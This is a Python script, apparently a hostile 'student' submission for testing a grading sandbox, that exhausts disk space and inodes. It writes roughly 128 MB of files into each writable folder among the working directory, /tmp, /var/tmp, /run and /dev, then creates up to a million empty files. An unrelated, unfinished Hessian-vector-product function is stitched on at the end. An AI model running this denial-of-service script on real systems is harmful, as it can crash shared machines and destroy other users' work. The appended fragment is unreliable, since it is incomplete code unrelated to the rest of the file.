"""Fills every writable folder with data and with a million empty files, so that the disk has no room or no inodes."""

import os
import time

FOLDERS = [folder for folder in (os.getcwd(), "/tmp", "/var/tmp", "/run", "/dev") if os.access(folder, os.W_OK)]
END = time.monotonic() + 3

for folder in FOLDERS:
    try:
        for number in range(100):
            with open(f"{folder}/attacked-by-student-{number}", "wb", buffering=0) as file:
                for _ in range(8):
                    file.write(b"x" * 2**24)
    except OSError as error:
        print(folder, error)
        os.unlink(f"{folder}/attacked-by-student-{number}")
for number in range(1_000_000):
    if time.monotonic() > END:
        break
    try:
        open(f"{FOLDERS[0]}/attacked-by-student-{number}", "w").close()
    except OSError as error:
        print(error)
        break


def eval_hess_vec_prod(vec, params, net, criterion, dataloader, device):
    for p, v in zip(params, vec):
        p.grad = v.clone()
